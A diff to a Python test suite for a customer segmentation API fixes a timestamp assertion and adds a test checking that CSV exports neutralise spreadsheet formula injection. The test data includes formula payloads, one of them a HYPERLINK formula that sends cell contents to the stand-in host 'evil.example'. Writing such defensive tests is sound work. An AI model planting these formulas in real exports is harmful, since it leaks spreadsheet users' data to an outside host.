@@ -54,7 +54,7 @@ def test_customer_profile(client, ops, shop):
     # 2,000 - 767 to gold; one purchase day gives BG/NBD P(alive) exactly 1.
     assert body["rfm"] == {"recency_days": pytest.approx(28.458333, abs=1e-5), "frequency": 1, "monetary": 767.0,
                            "r": 5, "f": 1, "m": 3, "segment": "New"}
-    assert body["tier"] == {"name": "silver", "since": "2026-11-01T12:00:00", "spend_to_next_tier": 1233.0}
+    assert body["tier"] == {"name": "silver", "since": "2026-11-01T12:00:00Z", "spend_to_next_tier": 1233.0}
     assert body["lifecycle"] == "new"
     assert body["community_layer"] is None
     assert body["clv"] == {"p_alive": 1.0, "expected_orders_90d": pytest.approx(0.679733, abs=1e-5),
@@ -211,3 +211,20 @@ def test_runs_endpoints(client, ops, make_key, shop):
                                    "fewer than the 200 a comparison needs")
     assert all(step["started_at"] and step["finished_at"] for step in detail["steps"])
     assert client.post("/v1/runs", headers=ops).status_code == 403
+
+
+def test_csv_export_neutralises_formula_cells(client, ops, segmentation_app):
+    from tests.factories import add_products
+
+    add_products()
+    formula_ids = ["=1+1", "+SUM(1+1)", "@SUM(1,1)", "-2+3", '=HYPERLINK("http://evil.example/?d="&A2,"x")']
+    add_orders([{"order_id": f"f{index}", "customer_id": customer_id, "placed_at": AS_OF, "skus": ["PHN-1"]}
+                for index, customer_id in enumerate([*formula_ids, "plain-1"])])
+    assert retrain_now(segmentation_app.config, as_of=AS_OF).status == "published"
+    catalogue = client.get("/v1/segments", headers=ops).json
+    tier = next(d for d in catalogue["dimensions"] if d["dimension"] == "tier")
+    exported = []
+    for value in tier["values"]:
+        response = client.get(f"/v1/segments/tier/{value['value']}/members.csv", headers=ops)
+        exported.extend(row["customer_id"] for row in csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    assert sorted(exported) == sorted(["'" + customer_id for customer_id in formula_ids] + ["plain-1"])
